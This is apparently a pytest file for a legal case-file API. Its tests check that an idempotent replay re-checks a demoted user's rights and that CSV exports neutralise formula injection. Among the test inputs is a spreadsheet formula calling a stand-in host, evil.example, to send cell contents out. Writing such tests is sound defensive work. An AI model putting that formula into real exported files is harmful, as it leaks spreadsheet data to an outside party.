"""Through the API (issue 14, security trial L8 and L11): an Idempotency-Key replay asks the user's
current rights again (a demoted user got the stored 201), and the case file's CSV cells that a
spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from typing import Any

from tests.accounts.world import NUMBER, World
from tests.api.test_acts import ACTS, AMAZON_OBJECTIONS, AS_OF


def _set_role(world: World, who: str, role: str) -> None:
    from casefile.accounts.users import set_role
    from casefile.record.db import write_session

    with write_session(by="operator:tests") as session:
        set_role(session, email=world.emails[who], role=role)


class TestIdempotentReplays:
    def test_a_replay_after_a_demotion_is_refused_like_a_new_request(self, client: Any, world: World) -> None:
        """L8: the employer's counsel files with a key, is made a viewer, and sends the same request
        with the same key: 403 (what the act without the key answers), no replay header."""
        headers = {**world.headers("employer-counsel"), "Idempotency-Key": "demoted-1"}
        first = client.post(ACTS, json=AMAZON_OBJECTIONS, params={"as_of": AS_OF}, headers=headers)
        assert first.status_code == 201, first.text
        _set_role(world, "employer-counsel", "viewer")
        replay = client.post(ACTS, json=AMAZON_OBJECTIONS, params={"as_of": AS_OF}, headers=headers)
        fresh = client.post(ACTS, json=AMAZON_OBJECTIONS, params={"as_of": AS_OF},
                            headers=world.headers("employer-counsel"))
        assert (replay.status_code, fresh.status_code) == (403, 403)
        assert "Idempotent-Replayed" not in replay.headers and replay.json()["code"] == fresh.json()["code"]
        _set_role(world, "employer-counsel", "counsel")
        again = client.post(ACTS, json=AMAZON_OBJECTIONS, params={"as_of": AS_OF}, headers=headers)
        assert (again.status_code, again.headers["Idempotent-Replayed"]) == (201, "true")


class TestSpreadsheetSafeCsv:
    def test_a_note_that_is_a_formula_is_written_as_text(self, client: Any, world: World) -> None:
        """L11: a private note beginning with =HYPERLINK(...) went into notes.csv as is."""
        from casefile.accounts.around import add_note
        from casefile.record.db import write_session

        texts = ['=HYPERLINK("http://evil.example/?"&A1,"open me")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB",
                 "\rCR", "  =cmd", "A plain note", "12 witnesses"]
        with write_session(by="operator:tests") as session:
            for text in texts:
                add_note(session, world.viewer("union-counsel"), case_number=NUMBER, text=text,
                         as_of=datetime.now(UTC))
        answer = client.get(f"/api/v1/cases/{NUMBER}/export", headers=world.headers("union-counsel"))
        with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
            rows = list(csv.reader(io.StringIO(archive.read("notes.csv").decode("utf-8"), newline="")))
            docket = list(csv.reader(io.StringIO(archive.read("docket.csv").decode("utf-8"), newline="")))
        written = [r[2] for r in rows[1:]]
        assert len(written) == len(texts)
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"open me")' in written
        assert {"'+1+2", "'-2+3", "'@SUM(A1:A2)", "A plain note", "12 witnesses"} <= set(written)
        assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in written)
        assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for row in docket for cell in row)

    def test_every_cell_is_checked(self) -> None:
        from casefile.accounts.spreadsheet import csv_text, safe_cell

        assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", " =1", "a=1", 5, -5, None)] == [
            "'=1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "' =1", "a=1", 5, -5, None]
        assert csv_text([["=1+2", "ok"]]) == "'=1+2,ok\r\n"
